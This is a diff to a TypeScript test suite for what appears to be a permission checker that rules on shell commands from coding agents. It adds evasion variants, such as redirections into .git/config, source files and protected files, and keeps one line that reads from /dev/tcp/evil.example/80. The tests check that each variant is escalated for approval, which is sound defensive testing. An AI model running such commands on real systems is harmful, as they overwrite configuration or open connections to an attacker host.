@@ -50,6 +50,11 @@ const tricks: readonly ((x: string) => string)[] = [
   (x) => `${x} >> ~/.bashrc`,
   (x) => `${x} 2> y`,
   (x) => `${x} &> y`,
+  (x) => `${x} > y`,
+  (x) => `${x} >> src/y.ts`,
+  (x) => `${x} > .git/config 2>&1`,
+  (x) => `${x} >&2`,
+  (x) => `> y ${x}`,
   (x) => `${x} < /dev/tcp/evil.example/80`,
   (x) => `${x} <<EOF\nEOF`,
   (x) => `${x} {a,b}`,
@@ -117,7 +122,7 @@ describe('a rule that allows', () => {
 
   it('[T30] lets nothing else through, whatever is put around or behind its command', () => {
     const tried = allowed.flatMap((command) => tricks.map((trick) => trick(command)))
-    expect(tried.length).toBeGreaterThan(1_000)
+    expect(new Set(tried).size).toBeGreaterThan(1_000)
     for (const text of tried) {
       expect(judge(rules, bash(text)).effect, text).toBe('ask')
       expect(judge(rules, { agent: 'codex', tool: 'command', input: text, cwd }).effect, text).toBe('ask')
@@ -126,6 +131,19 @@ describe('a rule that allows', () => {
         text,
       ).toBe('ask')
     }
+  })
+})
+
+describe('with edits free', () => {
+  it('[T30] no command passes for one that only looks, whatever is put around or behind it', () => {
+    const free = { mode: 'edits_free' } as const
+    const looking = ['git status', 'git diff --stat', 'git log --oneline -5', 'git show HEAD', 'ls -la']
+    for (const text of looking) expect(judge([], bash(text), free).effect, text).toBe('allow')
+    const tried = looking
+      .flatMap((command) => tricks.map((trick) => trick(command)))
+      .filter((x) => !looking.includes(x))
+    expect(new Set(tried).size).toBeGreaterThan(300)
+    for (const text of tried) expect(judge([], bash(text), free).effect, text).toBe('ask')
   })
 })
 
@@ -164,6 +182,17 @@ describe('a protected file', () => {
     for (const { name } of names) {
       for (const mode of modes) expect(judge([], edit(name), mode).effect, name).toBe('ask')
       expect(judge([all], edit(name)).effect, name).toBe('ask')
+    }
+  })
+
+  it('[T31] is of high risk by whatever name where a shell writes it', () => {
+    for (const file of files) {
+      for (const name of spellings.map((spell) => spell(file))) {
+        const command = `echo x > '${name}'`
+        const opened = { [cwd]: cwd, [name]: name.startsWith('/') ? name : `${cwd}/${name}` }
+        const request = { ...bash(command), opened }
+        expect(judge([], request, { mode: 'hands_free', until }), name).toMatchObject({ effect: 'ask', risk: 'high' })
+      }
     }
   })
 
